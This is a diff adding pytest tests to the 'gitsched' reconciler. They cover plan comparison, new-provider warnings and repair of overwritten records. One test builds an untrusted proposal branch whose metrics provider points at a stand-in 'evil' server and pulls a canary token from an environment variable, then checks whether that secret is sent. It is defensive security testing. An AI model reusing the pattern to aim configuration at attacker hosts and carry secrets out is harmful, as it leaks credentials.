@@ -4,15 +4,18 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable, Iterator
+from pathlib import Path
 
 import pytest
 
 from gitsched.model.time import format_time
-from gitsched.reconcile import Run, Session
+from gitsched.reconcile import Run, Session, reconcile
+from gitsched.reconcile.comparing import compare
 from gitsched.reconcile.explaining import explain
+from gitsched.render.record import parse_record
 from gitsched.report.explain import write_explanation
 from tests.metrics.conftest import Response, Server, vector
-from tests.scenarios.conftest import Fleet, moment
+from tests.scenarios.conftest import Fleet, execute, moment
 
 CANARY = "canary-77ab31"
 STATUS = "status/kubernetes/application/tenant-a/echo.yaml"
@@ -266,6 +269,63 @@ def test_a_proposal_that_leaves_providers_alone_may_be_planned_with_live_values(
     tenant.commit({"README.md": "hello"}, hour=1)
     run = tenant.preview(1, revision="proposal", observations="live", trusted=False)
     assert [move.after for move in run.plan.moves] == [{"tenant-a.two": None}]
+
+
+def test_what_a_proposal_says_about_the_output_branch_makes_nobody_trusted(
+    tenant: Fleet, prometheus: Prometheus, make_server: Callable[[], Server], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A branch that a stranger wrote may name the stranger's commit as the one that it was made from."""
+    tenant.reconcile()
+    evil = make_server()
+    monkeypatch.setenv("OPERATORS", CANARY)
+    tenant.git("checkout", "-q", "-b", "proposal")
+    source = provider("influx", f"{{url: '{evil.url}', org: o, bucket: b, tokenFrom: {{env: OPERATORS}}}}")
+    tenant.commit({"metrics/provider.yaml": source, "gitsched.yaml": config("output: {branch: theirs}")}, hour=1)
+    reconcile(tenant.settings(1, branch="proposal", observations="recorded"))
+    assert parse_record(tenant.git("show", "theirs:gitsched.json").encode()).source == tenant.git("rev-parse", "proposal").strip()
+    looking = tenant.settings(2, revision="proposal", observations="live", trusted=False)
+    assert "krake-not-asked" in codes(compare(looking).run)
+    assert "krake-provider-changed" in codes(compare(looking, "main").run)
+    assert evil.seen == []
+    compare(looking._replace(output_branch="theirs"))
+    assert evil.seen != [], "whoever names the branch trusts it"
+
+
+def test_plans_that_are_compared_are_made_with_the_same_values(tenant: Fleet, prometheus: Prometheus) -> None:
+    prometheus.values = {"a": 0.9, "b": 0.1}
+    tenant.reconcile()
+    tenant.git("checkout", "-q", "-b", "proposal")
+    tenant.commit({"README.md": "hello"}, hour=1)
+    asked = len(prometheus.server.seen)
+    compare(tenant.settings(2, revision="proposal", observations="live", trusted=False), "main")
+    assert len(prometheus.server.seen) - asked == 2, "two metrics, once each"
+
+
+def test_a_new_provider_is_told_where_it_stands_and_as_one_that_nobody_knows(tenant: Fleet, prometheus: Prometheus) -> None:
+    tenant.reconcile()
+    tenant.git("checkout", "-q", "-b", "proposal")
+    other = provider("prometheus", f"{{url: '{prometheus.url}'}}").replace("name: p}", "name: other}")
+    tenant.commit({"metrics/other.yaml": f"{metric('c', 'other')}---\n{other}"}, hour=1)
+    (finding,) = tenant.preview(1, revision="proposal", observations="live", trusted=False).plan.findings
+    assert str(finding).startswith("metrics/other.yaml:6:1: warning: GlobalMetricsProvider other")
+    assert (
+        "is new since the output branch was made: it is not asked, and nobody knows the values before a reconcile does"
+        in finding.message
+    )
+
+
+@pytest.mark.parametrize("damage", ["metadata: x", "status: [1]", "spec: [1]", "metadata: {annotations: x}", "x: y"])
+def test_a_record_that_somebody_wrote_over_is_mended(tenant: Fleet, tmp_path: Path, damage: str) -> None:
+    tenant.reconcile()
+    clone = tenant.checkout(tmp_path / "clone")
+    head = "api: kubernetes\nkind: Application\n" + (
+        "metadata: {name: echo, namespace: tenant-a}\n" if "metadata" not in damage else ""
+    )
+    (clone / STATUS).write_text(f"{head}{damage}\n")
+    execute("-c", "user.name=x", "-c", "user.email=x@example.com", "commit", "-qam", "By hand", at=clone)
+    tenant.git("update-ref", "refs/heads/placements", execute("rev-parse", "HEAD", at=clone))
+    tenant.reconcile(1)
+    assert place(tenant) in ("one", "two")
 
 
 @pytest.fixture
